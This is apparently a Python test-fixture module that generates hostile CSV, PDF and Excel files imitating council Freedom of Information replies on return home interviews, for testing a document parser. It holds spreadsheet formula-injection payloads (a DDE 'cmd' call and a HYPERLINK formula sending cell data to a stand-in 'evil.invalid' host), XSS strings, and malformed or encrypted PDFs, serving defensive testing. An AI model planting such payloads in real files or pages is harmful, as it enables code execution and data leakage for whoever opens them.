"""Hostile documents made with the real tools: PDFs (fpdf2, pikepdf), spreadsheets (openpyxl) and CSVs."""

from __future__ import annotations

import io
import random
from pathlib import Path

FONT = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")
# Payloads a spreadsheet would run or a browser would execute, as councils' text could carry them.
FORMULAS = ('=HYPERLINK("http://evil.invalid/?x="&A1,"Click for figures")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1")
SCRIPTS = ("<script>alert('xss')</script>", '<img src=x onerror="alert(1)">', "javascript:alert(1)")
COUNCIL_ROWS = (("Q1", "", "Return home interview offered to every child missing from care?", "Yes"),
                ("Q2", "", "Return home interview offered to every child missing from home?", "Yes"),
                ("Q3", "", "Who carries out return home interviews?", "In-house"),
                ("Q4", "", "Timescale within which an interview is offered", "72 hours"),
                ("Q5", "a", "Number of missing episodes - Looked after children", "{a}"),
                ("Q5", "b", "Number of missing episodes - Children missing from home", "{b}"))


def reply_csv(seed: int, extra_rows: tuple[tuple[str, ...], ...] = ()) -> str:
    """Given a seed, return an ordinary answers CSV in the layout councils use (numbers vary with the seed)."""
    rng = random.Random(seed)
    lines = ["Question,Part,Description,Response"]
    for row in COUNCIL_ROWS + extra_rows:
        cells = [c.format(a=rng.randint(50, 400), b=rng.randint(100, 900)) for c in row]
        lines.append(",".join(f'"{c}"' if ("," in c or '"' in c) else c for c in
                              (x.replace('"', '""') if '"' in x else x for x in cells)))
    return "\n".join(lines) + "\n"


def payload_rows() -> tuple[tuple[str, ...], ...]:
    """Return extra answer rows whose text is each formula and script payload."""
    return tuple(("Q3", "", "Who carries out return home interviews?", p) for p in FORMULAS + SCRIPTS)


def mixed_encoding_csv(seed: int) -> bytes:
    """Given a seed, return an answers CSV whose lines mix UTF-8 and cp1252 and carry NUL bytes."""
    lines = reply_csv(seed).splitlines()
    out = []
    for index, line in enumerate(lines):
        note = " – café £5" if index in (2, 3) else ""
        encoding = "cp1252" if index % 2 else "utf-8"
        out.append((line + note).encode(encoding))
    out[3] = out[3].replace(b",", b",\x00", 1)
    out.insert(1, b"\x00\x00\x00")
    return b"\r\n".join(out) + b"\r\n\x00"


def case_level_csv(path: Path, rows: int) -> Path:
    """Given a path and a row count, write a raw case-level extract (one row per missing episode) fast."""
    header = "child_id,episode_id,looked_after,date_missing,date_returned,rhi_offered,rhi_date,rhi_completed\n"
    rng = random.Random(14)
    pattern = [f"C{rng.randint(10000, 99999)},{{e}},{rng.choice('YN')},2025-0{rng.randint(4, 9)}-1{rng.randint(0, 9)},"
               f"2025-0{rng.randint(4, 9)}-2{rng.randint(0, 8)},{rng.choice('YN')},,{rng.choice('YN')}\n"
               for _ in range(97)]
    with path.open("w", encoding="utf-8", newline="") as out:
        out.write(header)
        block = 10_000
        for start in range(0, rows, block):
            out.write("".join(pattern[i % 97].replace("{e}", f"E{start + i}") for i in range(min(block, rows - start))))
    return path


def letter_pdf(council: str, lines: list[str], pages: int = 1) -> bytes:
    """Given a council, the letter's lines and a page count, return a text PDF (fpdf2, core font)."""
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_auto_page_break(False)
    for page in range(pages):
        pdf.add_page()
        pdf.set_font("Helvetica", size=10)
        y = 15
        for text in [council, f"Page {page + 1} of {pages}", *lines]:
            pdf.text(15, y, text.encode("latin-1", "replace").decode("latin-1"))
            y += 6
    return bytes(pdf.output())


def answers_letter_lines(seed: int, payloads: bool = False) -> list[str]:
    """Given a seed, return the lines of a letter that answers questions 1 to 5 (with payloads, if asked)."""
    rng = random.Random(seed)
    lines = ["Date: 20/05/2026", "FREEDOM OF INFORMATION REQUEST", "Data is for 01/04/2025 to 31/03/2026.",
             "Request 1: Does your authority offer a return home interview to every child missing from care?",
             "Response: Yes.", "Request 4: Within what time of a child's return is an interview offered?",
             "Response: 72 hours", "Request 5: How many missing episodes were there for (a) children in care and",
             "(b) children missing from home?", f"Response: a) {rng.randint(50, 300)}", f"b) {rng.randint(100, 800)}"]
    if payloads:
        lines += ["Request 3: Who carries out return home interviews?", f"Response: {FORMULAS[0]}",
                  f"Note: {SCRIPTS[0]} {FORMULAS[1]}", f"Contact: {SCRIPTS[1]}"]
    return lines


def encrypted_pdf(plain: bytes, user: str, owner: str) -> bytes:
    """Given a PDF, return it encrypted with AES-256 under a user password (may be empty) and an owner password."""
    import pikepdf

    with pikepdf.open(io.BytesIO(plain)) as pdf:
        out = io.BytesIO()
        pdf.save(out, encryption=pikepdf.Encryption(user=user, owner=owner, R=6,
                                                    allow=pikepdf.Permissions(extract=False)))
        return out.getvalue()


def no_unicode_font_pdf(council: str, seed: int) -> bytes:
    """Given a council and seed, return a letter in an embedded CID font whose ToUnicode map was removed.

    Its glyphs draw the letter on screen, but a text extractor sees only glyph ids ("(cid:37)").
    """
    import pikepdf
    from fpdf import FPDF

    pdf = FPDF()
    pdf.add_page()
    pdf.add_font("DejaVu", fname=str(FONT))
    pdf.set_font("DejaVu", size=10)
    y = 15
    for text in [council, *answers_letter_lines(seed)]:
        pdf.text(15, y, text)
        y += 6
    with pikepdf.open(io.BytesIO(bytes(pdf.output()))) as doc:
        for page in doc.pages:
            for font in page.Resources.Font.values():
                if "/ToUnicode" in font:
                    del font["/ToUnicode"]
        out = io.BytesIO()
        doc.save(out)
        return out.getvalue()


def ruled_maze_pdf(lines_per_axis: int) -> bytes:
    """Given a count, return a one-page PDF drawn with that many vertical and horizontal rules (slow to table-find)."""
    from fpdf import FPDF

    pdf = FPDF(unit="pt", format=(800, 800))
    pdf.add_page()
    pdf.set_line_width(0.1)
    step = 780 / lines_per_axis
    for i in range(lines_per_axis):
        offset = 10 + i * step
        pdf.line(offset, 10, offset, 790)
        pdf.line(10, offset, 790, offset)
    pdf.set_font("Helvetica", size=4)
    for i in range(0, lines_per_axis, 7):
        pdf.text(10 + i * step + 0.5, 10 + i * step + 3, str(i))
    return bytes(pdf.output())


def payload_workbook(seed: int) -> bytes:
    """Given a seed, return an .xlsx with formula and script payloads in sheet names and cells (openpyxl)."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = '=HYPERLINK("x","y")'
    sheet.append(["Question", "Part", "Description", "Response"])
    rng = random.Random(seed)
    for row in COUNCIL_ROWS + payload_rows():
        sheet.append([c.format(a=rng.randint(50, 400), b=rng.randint(100, 900)) for c in row])
    other = book.create_sheet("<img src=x onerror=alert(1)>")
    for payload in FORMULAS + SCRIPTS:
        other.append(["Note", payload])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def case_level_workbook(rows: int) -> bytes:
    """Given a row count, return an .xlsx that is a case-level extract (one row per child), written streaming."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet("Episodes")
    sheet.append(["Child ID", "Episode start", "Looked after", "RHI offered", "RHI completed", "Days to RHI"])
    rng = random.Random(7)
    for index in range(rows):
        sheet.append([f"C{100000 + index}", f"2025-{rng.randint(4, 12):02d}-{rng.randint(10, 28)}",
                      rng.choice("YN"), rng.choice("YN"), rng.choice("YN"), rng.randint(0, 9)])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
